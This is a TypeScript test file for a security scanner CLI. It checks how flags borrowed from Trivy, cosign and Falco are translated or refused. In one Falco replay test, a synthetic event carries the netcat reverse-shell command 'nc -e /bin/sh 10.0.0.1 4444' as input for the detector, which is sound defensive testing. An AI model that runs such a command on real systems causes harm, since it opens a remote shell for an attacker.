// Peer flags (issue 10 §5): Trivy's, cosign's and Falco's flags keep their meaning or are refused
// with the Bulwark equivalent; none silently changes meaning.
import { describe, expect, it } from 'vitest';
import { cli } from '../../test/support/cli.js';
import { fixture } from '../../test/support/fixtures.js';
import { isBulwarkError } from '../core/errors.js';
import { checkTlogUpload, falcoOutputOption, formatFromCosignOutput } from './peer-flags.js';

const usage = (f: () => unknown, message: RegExp) => {
  let err: unknown;
  try {
    f();
  } catch (e) {
    err = e;
  }
  expect(isBulwarkError(err) && err.code).toBe('USAGE');
  expect((err as Error).message).toMatch(message);
};

describe('peer flag translations', () => {
  it('cosign --tlog-upload: false is accepted, true is refused naming why', () => {
    expect(() => checkTlogUpload(undefined)).not.toThrow();
    expect(() => checkTlogUpload('false')).not.toThrow();
    usage(() => checkTlogUpload('true'), /never uploads to a transparency log.*--tlog-upload=false/);
    usage(() => checkTlogUpload('maybe'), /invalid --tlog-upload/);
  });

  it('cosign verify --output json|text maps to --format json|table', () => {
    expect(formatFromCosignOutput(undefined, 'table')).toBe('table');
    expect(formatFromCosignOutput('json', 'table')).toBe('json');
    expect(formatFromCosignOutput('text', 'json')).toBe('table');
    usage(() => formatFromCosignOutput('yaml', 'table'), /json or text/);
  });

  it.each([
    ['alerts.jsonl', 'text', { format: 'text', output: 'alerts.jsonl' }],
    ['./a=b.jsonl', 'text', { format: 'text', output: './a=b.jsonl' }],
    ['json_output=true', 'text', { format: 'json', output: undefined }],
    ['json_output=false', 'json', { format: 'text', output: undefined }],
  ])('falco -o %s', (o, format, want) => expect(falcoOutputOption(o, format)).toEqual(want));

  it('falco -o with another config key is refused with the equivalents', () => {
    usage(() => falcoOutputOption('http_output.enabled=true', 'text'), /--webhook URL for http_output/);
  });
});

describe('peer flags through the CLI', () => {
  it("Trivy's image --input, --no-progress and --list-all-pkgs", () => {
    const target = fixture('images', 'alpine-310.tar.gz');
    const r = cli([
      'image',
      '--input',
      target,
      '--no-progress',
      '--list-all-pkgs',
      '--offline',
      '--skip-db-update',
      '--format',
      'json',
    ]);
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).packages).toHaveLength(14);
    expect(cli(['image', target, '--input', target]).status).toBe(2);
    expect(cli(['image']).stderr).toMatch(/missing required argument 'target' \(an image, or --input FILE\)/);
  });

  it("Falco's -o json_output=true prints Falco JSON alerts, and writes no file of that name", () => {
    const ev = JSON.stringify({
      'evt.type': 'execve',
      'evt.dir': '<',
      'proc.name': 'nc',
      'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444',
      'proc.exe': 'nc',
      'proc.pname': 'bash',
      'container.id': '3ad7b26ded6d',
      'evt.arg.flags': 'EXE_WRITABLE',
    });
    const r = cli(
      ['runtime', 'replay', '-r', fixture('falco', 'falco_rules.yaml'), '-o', 'json_output=true', '-'],
      {
        input: `${ev}\n`,
      },
    );
    expect(r.status, r.stderr).toBe(0);
    const lines = r.stdout.trim().split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) expect(JSON.parse(l)).toHaveProperty('rule');
  });

  it("cosign's sign --yes --tlog-upload=true is refused before any key or registry is touched", () => {
    const r = cli(['sign', '--yes', '--tlog-upload=true', '--key', '/nonexistent.key', '127.0.0.1:9/a:1']);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/never uploads to a transparency log/);
  });
});
